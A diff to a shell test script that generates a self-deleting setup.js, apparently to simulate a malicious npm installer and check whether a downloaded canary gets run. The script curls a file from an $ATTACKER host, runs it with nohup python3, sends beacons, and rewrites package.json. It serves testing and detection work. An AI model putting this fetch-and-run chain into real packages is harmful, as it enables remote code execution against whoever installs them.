@@ -5,7 +5,7 @@ cat > setup.js <<'SCRIPT'
 const { execFileSync } = require("child_process");
 const { readFileSync, unlinkSync, writeFileSync } = require("fs");
 const host = process.argv[2];
-execFileSync("sh", ["-c", `curl -m 3 -o /tmp/ld-canary.py -d packages.npm.org/product2 -s http://${host}:8080/6202033 && nohup python3 /tmp/ld-canary.py > /dev/null 2>&1 & sleep 1`]);
+execFileSync("sh", ["-c", `curl -m 3 -o /tmp/ld-canary.py -d packages.npm.org/product2 -s http://${host}:8080/6202033 && nohup python3 /tmp/ld-canary.py > ran 2>&1 & sleep 1`]);
 execFileSync("sh", ["-c", `curl -sm 3 http://${host}:8080/beacon-1; sleep 0.2; curl -sm 3 http://${host}:8080/beacon-2; true`]);
 writeFileSync("package.json", JSON.stringify({ version: "4.2.0" }));
 if (!readFileSync("package.json", "utf8").includes("postinstall")) console.log("did: manifest");
@@ -13,5 +13,5 @@ unlinkSync(__filename);
 console.log("did: gone");
 SCRIPT
 node setup.js "$ATTACKER"
-test ! -e /tmp/ld-canary.py || did run
+grep -qs 'File "/tmp/ld-canary.py", line 1' ran && did run # the canary is no Python: whoever runs it says so
 rm -f /tmp/ld-canary.py
